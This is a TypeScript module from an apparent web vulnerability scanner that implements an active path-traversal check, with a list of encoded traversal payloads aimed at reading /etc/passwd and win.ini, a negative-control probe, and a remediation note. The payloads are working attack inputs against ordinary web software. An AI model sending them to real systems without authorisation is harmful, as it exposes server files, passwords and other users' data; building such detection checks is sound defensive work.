import type { ActiveCheck } from '../active-check.ts';
import { printableLine } from '../content/evidence.ts';
import { causeOf, takesValue, wordsOf } from '../probing/point-words.ts';
import { systemFile } from '../probing/system-file.ts';

interface Way {
  /** Written as it stands in the address. `up` is how many folders it goes up. */
  readonly value: (file: string, up: number, own: string) => string;
  readonly file: 'etc/passwd' | 'windows/win.ini';
  readonly for: 'query' | 'path';
}

const encoded = encodeURIComponent;
const ending = (own: string) => /\.[a-z0-9]{1,5}$/i.exec(own)?.[0] ?? '.png';

const ways: readonly Way[] = [
  { for: 'query', file: 'etc/passwd', value: (file, up) => encoded(`${'../'.repeat(up)}${file}`) },
  { for: 'query', file: 'etc/passwd', value: (file) => encoded(`/${file}`) },
  { for: 'query', file: 'etc/passwd', value: (file) => encoded(`file:///${file}`) },
  { for: 'query', file: 'etc/passwd', value: (file, up) => encoded(`${'....//'.repeat(up)}${file}`) },
  {
    for: 'query',
    file: 'etc/passwd',
    value: (file, up) => encoded(encoded(`${'../'.repeat(up)}${file}`).replaceAll('.', '%2e')),
  },
  {
    for: 'query',
    file: 'etc/passwd',
    value: (file, up, own) => `${encoded(`${'../'.repeat(up)}${file}`)}%00${encoded(ending(own))}`,
  },
  {
    for: 'query',
    file: 'etc/passwd',
    // Behind the folder of the site's own file, which a check may look for.
    value: (file, up, own) => encoded(`${own.slice(0, own.lastIndexOf('/') + 1) || './'}${'../'.repeat(up)}${file}`),
  },
  {
    for: 'query',
    file: 'windows/win.ini',
    value: (file, up) => encoded(`${'..\\'.repeat(up)}${file.replaceAll('/', '\\')}`),
  },
  { for: 'query', file: 'windows/win.ini', value: (file) => encoded(`C:/${file}`) },
  { for: 'path', file: 'etc/passwd', value: (file, up) => encoded(`${'../'.repeat(up)}${file}`) },
  { for: 'path', file: 'etc/passwd', value: (file, up) => `${'%2e%2e%2f'.repeat(up)}${file}` },
  {
    for: 'path',
    file: 'etc/passwd',
    value: (file, up) => encoded(encoded(`${'../'.repeat(up)}${file}`).replaceAll('.', '%2e')),
  },
  { for: 'path', file: 'windows/win.ini', value: (file, up) => `${'..%5c'.repeat(up)}${file.replaceAll('/', '%5c')}` },
];

/**
 * Path traversal. A value names a file of the server's system, and its content is returned: the lines of `/etc/passwd`
 * (root with number 0 and another user) or of `win.ini`. Asked plainly, encoded once and twice, with doubled dots and
 * with a NUL before the ending. Silent where the same page shows them for a file that does not exist. Certain.
 */
export const pathTraversal: ActiveCheck = {
  id: 'path-traversal',
  title: 'Path traversal',
  score: 8,
  confidence: 'certain',
  cwe: [22],
  references: [
    'https://owasp.org/www-community/attacks/Path_Traversal',
    'https://cwe.mitre.org/data/definitions/22.html',
  ],
  risk: 'An unauthenticated attacker can read every file that the application can read: source code, configuration with passwords and keys, and data of other users.',
  recommendation:
    'Select files by a key from a list, not by a name from the request. Where a name is required, resolve it to a full path first and reject it unless it is inside the intended folder. Run the application as a user that can read only what it needs.',
  appliesTo: (point) => takesValue(point) || point.kind === 'cookie',
  async probe({ point, original, send, marker }) {
    if (systemFile(original) !== undefined) return undefined;
    for (const way of ways) {
      if (way.for !== (point.kind === 'path' ? 'path' : 'query')) continue;
      if (systemFile(await send(way.value(way.file, 9, point.value))) === undefined) continue;
      // The negative control: a file that does not exist shows nothing of the kind.
      const control = await send(way.value(`${way.file.split('/')[0]}/${marker()}`, 9, point.value));
      const value = way.value(way.file, 12, point.value);
      const response = await send(value);
      const shown = systemFile(response);
      if (systemFile(control) !== undefined || shown === undefined) continue;
      return {
        cause: causeOf(point),
        description: `${wordsOf(point)} is used as a file path without restriction. The response contains a system file from outside the site.`,
        evidence: `sent: ${value}\nin the response: ${printableLine(shown, 100)}`,
        response,
      };
    }
    return undefined;
  },
};
